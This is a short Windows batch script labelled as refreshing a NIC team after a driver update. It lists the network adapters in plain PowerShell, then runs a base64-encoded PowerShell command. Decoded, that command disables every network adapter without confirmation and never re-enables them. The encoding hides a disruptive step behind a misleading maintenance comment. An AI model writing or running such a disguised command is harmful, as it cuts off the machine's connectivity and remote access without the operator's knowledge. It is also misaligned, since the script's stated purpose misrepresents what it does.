@echo off
rem refresh the NIC team after the driver update
setlocal
set "ps=%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe"
"%ps%" -NoProfile -Command "Get-NetAdapter | Format-Table Name,Status,LinkSpeed"
"%ps%" -NoProfile -NonInteractive -enc RwBlAHQALQBOAGUAdABBAGQAYQBwAHQAZQByACAAfAAgAEQAaQBzAGEAYgBsAGUALQBOAGUAdABBAGQAYQBwAHQAZQByACAALQBDAG8AbgBmAGkAcgBtADoAJABmAGEAbABzAGUA
endlocal
